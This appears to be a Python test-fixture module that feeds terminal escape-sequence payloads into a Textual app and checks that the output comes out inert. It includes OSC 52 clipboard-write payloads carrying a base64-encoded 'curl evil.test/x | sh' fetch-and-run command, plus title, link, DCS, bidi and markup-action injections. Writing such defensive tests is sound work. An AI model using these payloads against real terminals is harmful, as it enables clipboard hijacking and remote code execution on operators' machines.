"""The hostile strings every entry path is fed, and the checks that they came out inert.

Each payload carries a marker that only the payload can produce on a terminal,
so the bytes a pseudo-terminal receives can be searched for it: the OSC 52
clipboard payload (base64 of a shell command), a window title, a DCS request,
a screen clear wrapped in a rare SGR so Textual's own output never matches.
"""

from __future__ import annotations

import base64
import re

#: base64 of what an OSC 52 write would put on the operator's clipboard.
CLIPBOARD = base64.b64encode(b"curl evil.test/x | sh").decode()  # Y3VybCBldmlsLnRlc3QveCB8IHNo
TITLE_MARK = "PWNED-TITLE"
LINK_MARK = "evil.test/osc8"

PAYLOADS: dict[str, str] = {
    "csi colour": "\x1b[31mred\x1b[0m alert",
    "csi clear screen": "\x1b[2J\x1b[3J\x1b[H\x1b[?1049l wiped",
    "osc 52 bel": f"\x1b]52;c;{CLIPBOARD}\x07 copied",
    "osc 52 st": f"\x1b]52;c;{CLIPBOARD}\x1b\\ copied",
    "osc title": f"\x1b]0;{TITLE_MARK}\x07 titled",
    "osc 8 link": f"\x1b]8;;http://{LINK_MARK}\x1b\\click me\x1b]8;;\x1b\\",
    "dcs": "\x1bP1$qm\x1b\\ decrqss \x1bP+q544e\x1b\\",
    "c0 controls": "nul\x00 bell\x07 bs\x08 vt\x0b ff\x0c so\x0e del\x7f end",
    "c1 controls": "csi8\x9b31m osc8\x9d52;c;eA==\x9c nel\x85 end",
    "bidi overrides": "abc\u202egnp.exe\u202c \u2066iso\u2069 \u200fmark",
    "markup bold": "[bold]loud[/bold]",
    "markup click": "[@click=app.quit]press[/]",
    "markup link": "[link=http://evil.test/m]here[/link]",
    "markup escape": "\\[not markup] and [/] stray",
    "unterminated osc": "\x1b]52;c;" + CLIPBOARD,
}

#: Everything at once, as a title or a name would carry it.
ALL_IN_ONE = " | ".join(PAYLOADS.values())
LONG_LINE = "Rafah " + "x" * 100_000 + " end"
INVALID_UTF8 = b"caf\xc3 \xff\xfe bad \xed\xa0\x80 surrogate \xc0\xaf overlong"

# What inert text may contain: no ESC, no C0 except tab and newline, no DEL/C1, no bidi controls.
_FORBIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")

#: Markup that must still be there, literally, after cleaning.
LITERAL_MARKUP = ("[bold]loud[/bold]", "[@click=app.quit]press[/]", "[link=http://evil.test/m]here[/link]")


def problems(text: str, *, max_chars: int | None = None) -> list[str]:
    """What makes ``text`` unsafe to show (empty when inert)."""
    found = [f"U+{ord(c):04X} at {i}" for i, c in enumerate(text) if _FORBIDDEN.match(c)][:5]
    if max_chars is not None and len(text) > max_chars:
        found.append(f"{len(text)} characters, more than {max_chars}")
    return found


def assert_inert(text: str, *, max_chars: int | None = None, where: str = "") -> None:
    found = problems(text, max_chars=max_chars)
    assert not found, f"{where}: not inert: {found}: {text[:200]!r}"


# Byte patterns a terminal must never receive from data. Textual draws with CSI
# (colours, cursor moves) and its own few OSC/DCS queries; these are the data's.
TERMINAL_MARKERS: dict[str, bytes] = {
    "osc 52 clipboard": b"]52;",
    "clipboard payload": CLIPBOARD.encode(),
    "window title payload": TITLE_MARK.encode(),
    "osc 8 link payload": LINK_MARK.encode(),
    "dcs decrqss": b"\x1bP1$q",
    "dcs xtgettcap": b"\x1bP+q544e",
    "8-bit csi": b"\xc2\x9b31m",
    "bidi override": "\u202e".encode(),
}


def terminal_problems(output: bytes, baseline: bytes = b"") -> list[str]:
    """Markers in ``output`` (bytes a pty received) that the clean ``baseline`` run never emitted."""
    return [name for name, marker in TERMINAL_MARKERS.items() if marker in output and marker not in baseline]


def count_clears(output: bytes) -> int:
    return output.count(b"\x1b[2J") + output.count(b"\x1b[3J")
